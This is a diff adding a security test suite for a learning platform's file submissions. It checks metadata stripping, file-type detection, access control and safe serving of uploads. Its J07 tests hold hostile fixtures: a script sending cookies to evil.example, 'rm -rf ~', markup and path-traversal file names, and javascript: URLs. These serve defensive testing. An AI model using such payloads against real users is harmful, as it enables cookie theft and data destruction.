@@ -1,0 +1,274 @@
+import { type Endpoint, endpoints } from '@laurel/api';
+import { strToU8, zipSync } from 'fflate';
+import PDFDocument from 'pdfkit';
+import sharp from 'sharp';
+import { afterAll, describe, expect, it } from 'vitest';
+import { callApi, createSignedInPerson, type TestPerson } from '../../../testing/people.ts';
+import { joinAs, startLearningWorld } from '../testing/learning-world.ts';
+import { createTask, startWork, type Worker } from '../testing/work-world.ts';
+
+const world = await startLearningWorld();
+const { testApp, createSchool } = world;
+afterAll(() => testApp.stop());
+const school = await createSchool();
+const task = await createTask(world, school, { assignment: { maxFiles: 20 } });
+const canary = 'canary-of-the-camera';
+
+async function fetchFile(address: string, as?: Pick<TestPerson, 'cookie'>) {
+  const headers = as ? { cookie: as.cookie } : undefined;
+  const response = await testApp.app.fetch(new Request(testApp.origin + address, headers ? { headers } : {}));
+  return { status: response.status, headers: response.headers, bytes: Buffer.from(await response.arrayBuffer()) };
+}
+const ownAddress = (submissionId: string, fileId: string) => `/api/v1/me/submissions/${submissionId}/files/${fileId}`;
+const staffAddress = (submissionId: string, fileId: string, organisationId = school.organisationId) =>
+  `/api/v1/organisations/${organisationId}/submissions/${submissionId}/files/${fileId}`;
+
+/** Sends a file into the draft and answers it as it is kept. */
+async function keep(worker: Worker, bytes: Uint8Array | string, name: string) {
+  const { status, body } = await worker.send(bytes, { name });
+  const file = body.draft?.files.at(-1);
+  const kept = file && (await fetchFile(ownAddress(body.draft?.id ?? '', file.id), worker.person));
+  return { status, body, file, kept };
+}
+
+describe('E11: place, camera and notes are left behind on the way in', async () => {
+  const worker = await startWork(world, task);
+  const camera = () =>
+    sharp({ create: { width: 64, height: 32, channels: 3, background: '#3366cc' } })
+      .withExif({
+        IFD0: { Make: canary, ImageDescription: canary },
+        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '0/1 7/1 0/1' },
+      })
+      .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><place>${canary}</place></x:xmpmeta>`)
+      .withMetadata({ orientation: 6 });
+
+  it.each(['jpeg', 'png', 'webp'] as const)('of a picture as %s', async (format) => {
+    const taken = await camera().toFormat(format).toBuffer();
+    expect(taken.includes(canary)).toBe(true);
+    if (format === 'png') expect(taken.includes('eXIf')).toBe(true);
+    const { status, file, kept } = await keep(worker, taken, `photo.${format}`);
+    expect([status, file?.mediaType]).toEqual([201, 'image/png']);
+    const metadata = await sharp(kept?.bytes).metadata();
+    expect(metadata).toMatchObject({ format: 'png', width: 32, height: 64 });
+    for (const note of ['exif', 'xmp', 'iptc', 'icc', 'comments'] as const) expect(metadata[note]).toBeUndefined();
+    expect(kept?.bytes.includes(canary)).toBe(false);
+    expect(file?.notes.join()).toContain('place, camera and notes in it are gone');
+  });
+
+  it('a HEIC picture is refused with the way to mend it', async () => {
+    const heic = Buffer.concat([
+      Buffer.from([0, 0, 0, 24]),
+      Buffer.from('ftypheic\0\0\0\0mif1heic'),
+      Buffer.alloc(200),
+    ]);
+    const { status, body } = await worker.send(heic, { name: 'IMG_0001.HEIC' });
+    expect([status, body.code]).toEqual([415, 'unsupported-media-type']);
+    expect(body.detail).toContain('Save it as JPEG');
+  });
+
+  it('a PDF stays as it is, and its author is told what it says of them', async () => {
+    const pdf = new PDFDocument({ info: { Author: 'Jane Canary' } });
+    const chunks: Buffer[] = [];
+    pdf.on('data', (chunk: Buffer) => chunks.push(chunk));
+    const ended = new Promise((resolve) => pdf.on('end', resolve));
+    pdf.text('Words');
+    pdf.end();
+    await ended;
+    const bytes = Buffer.concat(chunks);
+    const { file, kept } = await keep(worker, bytes, 'essay.pdf');
+    expect(kept?.bytes.equals(bytes)).toBe(true);
+    expect(file?.notes).toEqual(['A PDF is kept as it is.', 'It names its author: “Jane Canary”.']);
+  });
+
+  it('an office document is known by what is in it, and its author told what it says of them', async () => {
+    const docx = zipSync({
+      '[Content_Types].xml': strToU8('<Types/>'),
+      'word/document.xml': strToU8('<w/>'),
+      'docProps/core.xml': strToU8(
+        '<p><dc:creator>Jane Canary</dc:creator><cp:lastModifiedBy>Joe</cp:lastModifiedBy></p>',
+      ),
+    });
+    const { file } = await keep(worker, docx, 'essay.docx');
+    expect(file?.mediaType).toContain('wordprocessingml');
+    expect(file?.notes[1]).toBe('It names who wrote it: “Jane Canary”, “Joe”.');
+  });
+});
+
+describe('E07: what a file is, its content says', async () => {
+  const worker = await startWork(world, task);
+  it.each([
+    ['a program', Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1')],
+    ['an archive of another kind', Buffer.from('Rar!\x1a\x07\x01\0', 'latin1')],
+    ['a GIF', Buffer.from('GIF89a\x01\0\x01\0\x80\0\0', 'latin1')],
+    [
+      'Matroska that is not WebM',
+      Buffer.from('1a45dfa3a34286810142f7810142f2810442f381084282886d6174726f736b61', 'hex'),
+    ],
+    ['a ZIP that is cut short', Buffer.from('PK\x03\x04 and no more', 'latin1')],
+    ['text in another encoding', Buffer.from('Gr\xfc\xdfe', 'latin1')],
+    ['nothing', Buffer.alloc(0)],
+  ])('%s is refused whatever its name, and nothing is kept', async (_, bytes) => {
+    const { status, body } = await worker.send(bytes, { name: 'work.pdf' });
+    expect([status, body.code]).toEqual([415, 'unsupported-media-type']);
+    expect((await worker.get()).draft?.files ?? []).toEqual([]);
+  });
+
+  it('only kinds that are asked for are taken, and no more than are asked for', async () => {
+    const narrow = await startWork(
+      world,
+      await createTask(world, school, { assignment: { fileKinds: ['text'], maxFiles: 1 } }),
+    );
+    const refused = await narrow.send('%PDF-1.7\n', { name: 'a.pdf' });
+    expect(refused.body.detail).toBe('Nothing was kept. This is a PDF. What is accepted here: a text in UTF-8.');
+    expect((await narrow.send('x'.repeat(2_097_153), { name: 'a.txt' })).status).toBe(413);
+    const sent = await Promise.all(Array.from({ length: 8 }, (_, n) => narrow.send('text', { name: `${n}.txt` })));
+    expect(sent.map(({ status }) => status).sort()).toEqual([201, ...Array(7).fill(409)]);
+    expect((await narrow.get()).draft?.files).toHaveLength(1);
+  });
+});
+
+describe('J02: what a learner handed in, nobody reads but its author and those who review it', async () => {
+  const author = await startWork(world, task);
+  await author.save({ body: 'secret-of-the-author' });
+  await author.send('secret-of-the-author', { name: 'secret.txt' });
+  const submission = (await author.handIn()).body.handedIn[0];
+  const [submissionId, fileId] = [submission?.id ?? '', submission?.files[0]?.id ?? ''];
+  const colleague = await startWork(world, task);
+  const own = (await colleague.save({ body: 'Mine' })).body.draft?.id ?? '';
+  const elsewhere = await createSchool();
+  const others = {
+    nobody: undefined,
+    'a stranger': await createSignedInPerson(testApp),
+    'a fellow learner': colleague.person,
+    'a viewer of the organisation': await joinAs(world, school, 'viewer'),
+    'an issuer of the organisation': await joinAs(world, school, 'issuer'),
+    'the owner of another organisation': elsewhere.owner,
+  };
+
+  it.each(Object.entries(others))('%s, by whichever address', async (_, as) => {
+    const addresses = [
+      ownAddress(submissionId, fileId),
+      ownAddress(own, fileId),
+      staffAddress(submissionId, fileId),
+      staffAddress(submissionId, fileId, elsewhere.organisationId),
+      staffAddress(own, fileId),
+      `/files/${fileId}`,
+      `/files/${submissionId}`,
+      `/api/v1/organisations/${school.organisationId}/submissions/${submissionId}`,
+      `/api/v1/organisations/${elsewhere.organisationId}/submissions/${submissionId}`,
+      `/api/v1/me/enrolments/${author.enrolmentId}/lessons/${task.lessonId}/work`,
+      `/api/v1/organisations/${school.organisationId}/programmes/${task.programmeId}/lessons/${task.lessonId}/submissions`,
+      `/api/v1/organisations/${school.organisationId}/programmes/${task.programmeId}/lessons/${task.lessonId}/similarities`,
+    ];
+    for (const address of addresses) {
+      const { status, bytes } = await fetchFile(address, as);
+      expect([401, 403, 404], address).toContain(status);
+      expect(bytes.includes('secret-of-the-author'), address).toBe(false);
+    }
+  });
+
+  it('its author and a reviewer do, and no cache keeps it', async () => {
+    const reviewer = await joinAs(world, school, 'reviewer');
+    const asked = [
+      await fetchFile(ownAddress(submissionId, fileId), author.person),
+      await fetchFile(staffAddress(submissionId, fileId), reviewer),
+    ];
+    for (const { status, headers, bytes } of asked) {
+      expect([status, bytes.toString()]).toEqual([200, 'secret-of-the-author']);
+      expect(headers.get('cache-control')).toBe('private, no-store');
+      expect(headers.get('etag')).toBeNull();
+    }
+    expect((await fetchFile(`/files/${fileId}`, author.person)).status).toBe(404);
+  });
+
+  it('a fellow learner writes to nothing of it either', async () => {
+    const params = { enrolmentId: author.enrolmentId, lessonId: task.lessonId, submissionId, fileId };
+    const doors: readonly (Endpoint & { body?: object })[] = [endpoints.removeSubmissionFile, endpoints.handInWork];
+    for (const endpoint of doors) {
+      expect((await callApi(testApp, endpoint, { as: colleague.person, params })).status, endpoint.id).toBe(404);
+    }
+    const body = { body: 'Taken over' };
+    expect((await callApi(testApp, endpoints.saveDraft, { as: colleague.person, params, body })).status).toBe(404);
+    expect((await author.get()).handedIn[0]?.body).toBe('secret-of-the-author');
+  });
+});
+
+describe('J07: what is handed in attacks nobody who opens it', async () => {
+  const script = '<script>fetch("//evil.example?"+document.cookie)</script>';
+  const worker = await startWork(world, task);
+
+  it.each([
+    ['a page', `<!doctype html>${script}`, 'index.html', 'index.html.txt'],
+    ['a drawing', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`, 'logo.svg', 'logo.svg.txt'],
+    ['a script', 'rm -rf ~', 'install.sh', 'install.sh.txt'],
+    ['a page behind a picture’s name', `<!doctype html>${script}`, 'photo.png', 'photo.png.txt'],
+    ['a name that hides its ending', 'x', 'invoice\u202Egnp.exe', 'invoice_gnp.exe.txt'],
+    ['a name of markup', 'x', `"><img src=x onerror=alert(1)>.txt`, '"__img src=x onerror=alert(1)_.txt'],
+    ['a name that climbs', 'x', '../../etc/passwd', '__.._etc_passwd.txt'],
+  ])('%s is saved as plain text under a harmless name, in a sandbox', async (_, text, name, savedAs) => {
+    const { kept, file } = await keep(worker, text, name);
+    expect(file).toMatchObject({ name, mediaType: 'text/plain' });
+    const headers = Object.fromEntries(kept?.headers ?? []);
+    expect(headers).toMatchObject({
+      'content-type': 'text/plain; charset=utf-8',
+      'x-content-type-options': 'nosniff',
+      'cross-origin-resource-policy': 'same-origin',
+      'referrer-policy': expect.stringMatching(/no-referrer|strict-origin/),
+      'x-frame-options': 'DENY',
+    });
+    expect(headers['content-security-policy']).toContain("default-src 'none'");
+    expect(headers['content-security-policy']).toContain('sandbox');
+    expect(headers['content-disposition']).toMatch(
+      /^attachment; filename="[^"]*"; filename\*=UTF-8''[\w%.!#$&+^`|~-]+$/,
+    );
+    const saved = decodeURIComponent(headers['content-disposition']?.split("UTF-8''")[1] ?? '');
+    expect(saved).toBe(savedAs);
+  });
+
+  it('what hides behind a picture is gone', async () => {
+    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: 'red' } })
+      .png()
+      .toBuffer();
+    const { kept } = await keep(worker, Buffer.concat([png, Buffer.from(`${script}PK\x03\x04`)]), 'polyglot.png');
+    expect(kept?.bytes.includes('script')).toBe(false);
+  });
+
+  it('words, reflections and links are shown without anything that runs', async () => {
+    const portfolio = await startWork(world, await createTask(world, school, { kind: 'portfolio' }));
+    const evil = `${script}\n\n[x](javascript:alert(1)) <img src=x onerror=alert(1)> ![y](https://evil.example/p.png)`;
+    const id = crypto.randomUUID();
+    const pieces = [{ id, title: script, reflection: evil }];
+    const { body } = await portfolio.save({
+      body: evil,
+      pieces,
+      links: [{ pieceId: id, url: 'https://work.example' }],
+    });
+    for (const html of [body.draft?.bodyHtml, body.draft?.pieces[0]?.reflectionHtml]) {
+      expect(html).not.toMatch(/<script|<img|href="javascript/);
+    }
+    for (const url of ['javascript:alert(1)', 'data:text/html,x', 'http://evil.example', 'file:///etc/passwd']) {
+      expect((await portfolio.save({ body: '', links: [{ url }] })).status, url).toBe(400);
+    }
+  });
+});
+
+it('L05: erasing a learner takes what they handed in along, its files and their bytes', async () => {
+  const worker = await startWork(world, task);
+  await worker.save({ body: 'Zqwork of mine' });
+  await worker.send('Zqwork of mine', { name: 'a.txt' });
+  const { body } = await worker.handIn();
+  const fileId = body.handedIn[0]?.files[0]?.id ?? '';
+  const exported = await callApi(testApp, endpoints.exportMe, { as: worker.person });
+  expect(JSON.stringify(exported.body)).toContain('Zqwork of mine');
+  const erasing = { email: worker.person.email, password: worker.person.password, copies: 'stay-valid' } as const;
+  expect((await callApi(testApp, endpoints.eraseMe, { as: worker.person, body: erasing })).status).toBe(202);
+  expect(await world.query('select from file.file where id = $1', [fileId])).toEqual([]);
+  expect(await world.query('select from learning.submission where person_id = $1', [worker.person.personId])).toEqual(
+    [],
+  );
+  const jobs = await world.query<{ payload: { fileIds: string[] } }>(
+    `select j.payload from graphile_worker._private_jobs j join graphile_worker._private_tasks t on t.id = j.task_id
+      where t.identifier = 'remove-file-bytes'`,
+  );
+  expect(jobs.flatMap(({ payload }) => payload.fileIds)).toContain(fileId);
+});
